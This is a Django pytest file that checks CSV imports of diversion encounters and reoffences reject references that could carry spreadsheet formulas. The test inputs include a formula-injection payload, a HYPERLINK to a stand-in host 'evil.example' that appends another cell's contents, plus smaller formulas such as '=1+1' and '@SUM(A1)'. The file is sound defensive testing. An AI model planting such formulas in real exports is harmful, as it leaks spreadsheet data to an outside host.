"""References that could carry a spreadsheet formula are refused on import, with a clear error."""

import csv
from datetime import date
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from boroughs.services import borough_configure
from diversion.imports import COLUMNS
from diversion.models import Encounter
from diversion.reoffence_imports import ReoffenceImportFailed, reoffences_import
from diversion.services import person_create

pytestmark = pytest.mark.django_db

ROW = {
    "encounter_ref": "ENC-1",
    "person_ref": "PER-1",
    "first_name": "Sam",
    "last_name": "Jones",
    "date_of_birth": "2003-05-01",
    "gender": "male",
    "ethnicity": "W1",
    "borough_code": "E09000022",
    "encounter_date": "2025-03-10",
    "substance": "cannabis_herbal",
    "quantity_grams": "10",
    "exclusions": "",
    "accepted": "no",
    **{column: "" for column in ("provider", "attended_on", "completed_on")},
    **{column: "" for column in ("did_not_attend_on", "withdrawn_on")},
}


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("encounter_ref", '=HYPERLINK("http://evil.example/x?"&B7,"Click")'),
        ("encounter_ref", "+1+1"),
        ("encounter_ref", "-ENC"),
        ("encounter_ref", "ENC 1"),
        ("person_ref", "@SUM(A1)"),
        ("person_ref", "PÉR-1"),
    ],
)
def test_import_encounters_refuses_a_reference_that_is_not_plain(tmp_path: Path, column, value):
    borough_configure(gss_code="E09000022", role="pilot", pilot_start=date(2025, 1, 1))
    path = tmp_path / "encounters.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerow({**ROW, column: value})
    with pytest.raises(CommandError):
        call_command("import_encounters", str(path), stdout=StringIO(), stderr=(err := StringIO()))
    assert f"line 2, {column}: " in err.getvalue()
    assert "must contain only letters A to Z, numbers 0 to 9 and hyphens" in err.getvalue()
    assert not Encounter.objects.exists()


def test_import_reoffences_refuses_a_formula_person_reference():
    person_create(
        first_name="Sam",
        last_name="Jones",
        date_of_birth=date(2003, 5, 1),
        gender="male",
        ethnicity="W1",
        person_ref="PER-1",
    )
    text = "person_ref,offence_date,offence_type,source_ref\n=1+1,2024-03-01,theft,\n"
    with pytest.raises(ReoffenceImportFailed) as failure:
        reoffences_import(stream=StringIO(text), source_name="matches.csv", by=None)
    assert failure.value.errors == [
        "line 2, person_ref: The person reference must contain only letters A to Z, numbers 0 to 9 "
        "and hyphens, like PER-7K2M9QXA"
    ]
